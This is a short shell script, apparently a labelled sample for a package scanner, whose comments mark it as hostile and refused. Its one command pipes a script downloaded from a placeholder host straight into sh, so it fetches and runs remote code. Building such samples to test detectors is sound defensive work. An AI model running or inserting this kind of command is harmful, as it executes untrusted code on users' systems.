#!/bin/sh
# Hostile: runs whatever a server sends.
# Families: dynamic-code, network, child-process. As a package: refused.
curl -fsSL https://install.example.invalid/run.sh | sh
